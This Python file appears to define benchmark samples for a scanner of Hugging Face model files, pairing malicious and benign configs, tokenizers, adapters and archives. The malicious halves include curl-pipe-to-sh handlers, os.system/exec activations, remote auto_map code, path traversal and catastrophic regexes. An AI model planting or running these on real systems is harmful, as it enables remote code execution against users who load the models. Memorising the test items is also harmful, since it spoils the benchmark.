"""Attacks by the files of a Hugging Face repository: keys that fetch or run code, climbing names, regular expressions that are bombs."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from typing import Any

from bench.modelfiles.heldout.parts import tarred, zipped
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("Hugging Face files")
LOADED = "from_pretrained"


def config(**more: Any) -> dict[str, Any]:
    """Return an ordinary config.json with these keys."""
    return {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "hidden_size": 64,
        "num_hidden_layers": 2,
        "torch_dtype": "bfloat16",
        **more,
    }


def fast(**more: Any) -> dict[str, Any]:
    """Return an ordinary tokenizer.json with these keys."""
    return {
        "version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None, "pre_tokenizer": {"type": "Whitespace"},
        "post_processor": None, "decoder": None, "model": {"type": "WordLevel", "vocab": {"<unk>": 0, "a": 1}, "unk_token": "<unk>"}, **more,
    }  # fmt: skip


def remote() -> Iterator[Sample]:
    """Yield keys that run code of a repository."""
    yield from group.pairs(
        ("auto-map-elsewhere", "config.json", config(auto_map={"AutoModelForCausalLM": "someone/other--modeling_x.Net"}), config(auto_mapping=None),
         f"{LOADED} with trust_remote_code fetches and runs the module of another repository"),
        ("auto-map-nested", "config.json", config(vision_config={"model_type": "siglip", "auto_map": {"AutoModel": "someone/vision--modeling.Net"}}),
         config(vision_config={"model_type": "siglip", "image_size": 224}),
         "vLLM 0.11.0 fetched and ran the nested module even without trust_remote_code (CVE-2025-66448)"),
        ("auto-map-tokenizer", "tokenizer_config.json",
         {"tokenizer_class": "XTokenizer", "auto_map": {"AutoTokenizer": ["someone/tok--tokenization_x.XTokenizer", None]}},
         {"tokenizer_class": "LlamaTokenizer", "added_tokens_decoder": {}}, f"AutoTokenizer.{LOADED} runs the module of another repository"),
        ("auto-map-processor", "processor_config.json", {"processor_class": "X", "auto_map": {"AutoProcessor": "processing_x.X"}},
         {"processor_class": "LlavaProcessor", "patch_size": 14}, f"AutoProcessor.{LOADED} runs the module"),
        ("auto-map-features", "preprocessor_config.json", {"auto_map": {"AutoFeatureExtractor": "features_x.X"}},
         {"feature_extractor_type": "WhisperFeatureExtractor", "feature_size": 80}, f"AutoFeatureExtractor.{LOADED} runs the module"),
        ("trust", "config.json", config(trust_remote_code=True, text_config={"trust_remote_code": True}), config(trust_remote_code=False),
         "programs that pass the configuration on as arguments allow code of the repository"),
        ("attention-kernel", "config.json", config(_attn_implementation="someone/flash-kernel@main"), config(_attn_implementation="flash_attention_2"),
         f"{LOADED} downloads the kernel from a repository and loads its library"),
        ("attention-nested", "config.json", config(text_config={"attn_implementation": {"text_config": "someone/kernels:attention"}}),
         config(text_config={"attn_implementation": {"text_config": "sdpa"}}), f"{LOADED} downloads the kernel of a part of the model"),
        ("kernel-mapping", "config.json", config(kernel_config={"kernel_mapping": {"RMSNorm": "someone/layer:RMSNorm"}}, use_kernels=True),
         config(rms_norm_eps=1e-6, use_cache=True), "transformers with use_kernels replaces the layer by code of a repository"),
        ("custom-generate", "generation_config.json", {"custom_generate": "someone/generate", "trust_remote_code": True, "max_length": 20},
         {"do_sample": True, "temperature": 0.6, "max_length": 20}, "generate fetches and runs custom_generate/generate.py"),
        ("mlx-model-file", "config.json", config(model_file="model_x.py", quantization={"bits": 4}), config(quantization={"group_size": 64, "bits": 4}),
         "mlx_lm.load runs the file of the repository as a module"),
        ("custom-pipeline", "config.json", config(custom_pipelines={"pair-classification": {"impl": "pair.PairPipeline", "pt": ["AutoModel"]}}),
         config(task_specific_params={"summarization": {"max_length": 20}}), "pipeline runs the module that implements the task"),
        ("diffusers-module", "model_index.json", {"_class_name": ["pipeline_x", "XPipeline"], "unet": ["diffusers", "UNet2DModel"]},
         {"_class_name": "DDPMPipeline", "unet": ["diffusers", "UNet2DModel"]}, f"DiffusionPipeline.{LOADED} runs pipeline_x.py of the repository"),
        ("diffusers-component", "model_index.json", {"_class_name": "DDPMPipeline", "unet": ["my_unet", "Net"], "scheduler": ["os", "system"]},
         {"_class_name": "DDPMPipeline", "unet": ["diffusers", "UNet2DModel"], "scheduler": ["diffusers", "DDPMScheduler"]},
         "components come from modules of the repository or of any library"),
        ("modular", "modular_model_index.json",
         {"_class_name": "X", "_blocks_class_name": "Y", "unet": ["diffusers", "UNet", {"repo": "someone/x", "trust_remote_code": True}],
             "auto_map": {"ModularPipelineBlocks": "block.Y"}},
         {"_class_name": "X", "_blocks_class_name": "AutoBlocks", "unet": ["diffusers", "UNet2DConditionModel", {"repo": "org/x", "subfolder": "unet"}]},
         "ModularPipeline runs the block of the repository"),
        ("sentence-module", "modules.json", [{"idx": 0, "name": "0", "path": "", "type": "net_module.Transformer"}],
         [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
         "SentenceTransformer imports the module of the repository"),
        ("sentence-router", "router_config.json",
         {"types": {"query_0": "subprocess.Popen", "document_0": "sentence_transformers.models.Transformer"}, "structure": {"query": ["query_0"]}},
         {"types": {"query_0": "sentence_transformers.models.StaticEmbedding", "document_0": "sentence_transformers.models.Transformer"},
             "structure": {"query": ["query_0"]}}, "Router.load imports and loads each type by its name"),
        ("sentence-dense", "2_Dense/config.json", {"in_features": 8, "out_features": 4, "activation_function": "os.system"},
         {"in_features": 8, "out_features": 4, "activation_function": "torch.nn.modules.activation.Tanh"}, "Dense.load imports the activation and calls it"),
        ("sentence-loss", "config_sentence_transformers.json", {"prompts": {}, "similarity_fn_name": "cosine", "activation_fn": "builtins.exec"},
         {"prompts": {"query": "query: "}, "similarity_fn_name": "cosine", "activation_fn": "torch.nn.modules.linear.Identity"},
         "CrossEncoder imports the activation and calls it"),
        ("cross-encoder", "config.json", config(sentence_transformers={"activation_fn": "posix.system", "version": "5.0"}),
         config(sentence_transformers={"activation_fn": "torch.nn.modules.activation.Sigmoid", "version": "5.0"}),
         "CrossEncoder imports the activation that the configuration names"),
    )  # fmt: skip


def fetched() -> Iterator[Sample]:
    """Yield names of files and repositories that lead elsewhere."""
    adapter = {"peft_type": "LORA", "r": 8, "target_modules": ["q_proj"], "task_type": "CAUSAL_LM"}
    yield from group.pairs(
        ("adapter-base-http", "adapter_config.json", {**adapter, "base_model_name_or_path": "http://example.com/base"},
         {**adapter, "base_model_name_or_path": "meta-llama/Llama-3.2-1B"}, "AutoPeftModel loads the base model from the address"),
        ("adapter-base-share", "adapter_config.json", {**adapter, "base_model_name_or_path": "\\\\example.com\\share\\base"},
         {**adapter, "base_model_name_or_path": "org/base"}, "AutoPeftModel loads the base model from a network share"),
        ("adapter-mapping", "adapter_config.json", {**adapter, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
         {**adapter, "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}},
         "AutoPeftModel imports the library and takes the class"),
        ("index-climbs", "model.safetensors.index.json", {"metadata": {"total_size": 8}, "weight_map": {"w": "../../../tmp/x/w.safetensors"}},
         {"metadata": {"total_size": 8}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}, f"{LOADED} reads a shard outside the repository"),
        ("index-absolute", "pytorch_model.bin.index.json", {"metadata": {}, "weight_map": {"w": "/tmp/x/pytorch_model.bin"}},
         {"metadata": {}, "weight_map": {"w": "pytorch_model-00001-of-00002.bin"}}, f"{LOADED} unpickles a file at an absolute path"),
        ("vocabulary-path", "tokenizer_config.json",
         {"tokenizer_class": "BertTokenizer", "vocab_file": "/etc/passwd", "tokenizer_file": "//example.com/share/t.json"},
         {"tokenizer_class": "BertTokenizer", "vocab_file": "vocab.txt", "do_lower_case": True}, f"{LOADED} reads the vocabulary from a local file"),
        ("timm-url", "config.json", {"architecture": "resnet18", "pretrained_cfg": {"url": "http://example.com/x.pth", "num_classes": 10}},
         {"architecture": "resnet18", "pretrained_cfg": {"input_size": [3, 224, 224], "num_classes": 10}}, "timm downloads the checkpoint and unpickles it"),
        ("timm-local", "config.json", {"architecture": "vit", "pretrained_cfg": {"file": "/tmp/x/w.pth", "custom_load": "hf", "hf_hub_id": "someone/x"}},
         {"architecture": "vit", "pretrained_cfg": {"hf_hub_id": "timm/vit_tiny", "crop_pct": 0.9}},
         "timm unpickles a local file instead of the repository's"),
        ("dataset-script", "README.md",
         "---\nconfigs:\n- config_name: default\n  data_files: https://example.com/data.pkl\n  trust_remote_code: true\n---\n# Data\n",
         "---\nconfigs:\n- config_name: default\n  data_files: data/train-*.parquet\n---\n# Data\n",
         "load_dataset downloads a pickle and reads it with pandas"),
        ("handler", "handler.py",
         "import os\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('curl -s https://example.com/x | sh')\n",
         "from transformers import pipeline\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.pipe = pipeline('text-classification', model=path)\n",
         "Inference Endpoints start the handler of the repository"),
        ("open-clip", "open_clip_config.json",
         {"model_cfg": {"text_cfg": {"hf_model_name": "someone/x", "hf_tokenizer_name": "someone/x", "tokenizer_kwargs": {"trust_remote_code": True}}}},
         {"model_cfg": {"text_cfg": {"hf_model_name": "roberta-base", "hf_tokenizer_name": "roberta-base", "tokenizer_kwargs": {"strip_sep_token": False}}}},
         "open_clip passes the arguments to AutoTokenizer, which runs code of that repository"),
        ("vision-tower", "config.json", config(mm_vision_tower="http://example.com/tower", vision_tower_kwargs={"trust_remote_code": True}),
         config(mm_vision_tower="openai/clip-vit-large-patch14-336", mm_hidden_size=1024), "LLaVA loads the tower with code of its repository"),
    )  # fmt: skip


def heavy() -> Iterator[Sample]:
    """Yield tokenizers that never end, and archives of models."""

    def split(expression: str) -> dict[str, Any]:
        return fast(pre_tokenizer={"type": "Split", "pattern": {"Regex": expression}, "behavior": "Isolated", "invert": False})

    def replace(expression: str) -> dict[str, Any]:
        return fast(normalizer={"type": "Replace", "pattern": {"Regex": expression}, "content": " "})

    def mar(handler: str) -> bytes:
        return zipped(
            {
                "MAR-INF/MANIFEST.json": {"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"}},
                "handler.py": handler,
            }
        )

    nested = json.dumps(config())[:-1] + ', "auto_map": null, "auto_map": {"AutoConfig": "someone/x--configuration_x.C"}}'
    yield from group.pairs(
        ("regex-split", "tokenizer.json", split("(a+)+$"), split(r"[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}|\s+(?!\S)|\s+"),
         "the expression takes exponential time on a text of thirty letters"),
        ("regex-replace", "tokenizer.json", replace(r"^(\w+\s?)*$"), replace(r" {2,}"), "the normalizer takes exponential time"),
        ("regex-sequence", "tokenizer.json",
         fast(pre_tokenizer={"type": "Sequence", "pretokenizers": [{"type": "Split", "pattern": {"Regex": "(x|x)*y"}, "behavior": "Removed",
             "invert": False}]}),
         fast(pre_tokenizer={"type": "Sequence", "pretokenizers": [{"type": "Split", "pattern": {"Regex": "(x|z)+y"}, "behavior": "Removed",
             "invert": False}]}), "the expression takes exponential time, one of several steps"),
        ("torchserve", "model.mar", mar("import subprocess\nsubprocess.Popen(['sh', '-c', 'curl https://example.com/x | sh'])\n"),
         mar("from ts.torch_handler.image_classifier import ImageClassifier\n\nclass H(ImageClassifier):\n    topk = 3\n"),
         "TorchServe imports the handler of the archive"),
        ("cog", "model.tar.gz",
         gzip.compress(tarred({"code/inference.py": "import os\nos.system('curl https://example.com/x | sh')\n", "../../../tmp/x/evil": "x"}), mtime=0),
         gzip.compress(tarred({"code/inference.py": "import json\n\ndef model_fn(folder):\n    return json.load(open(folder + '/m.json'))\n"}), mtime=0),
         "SageMaker imports code/inference.py of the archive, and unpacking climbs out of the folder"),
        ("duplicate-key", "config.json", nested, json.dumps(config())[:-1] + ', "use_cache": null, "use_cache": true}',
         f"{LOADED}: the second of two keys counts"),
    )  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*remote(), *fetched(), *heavy())
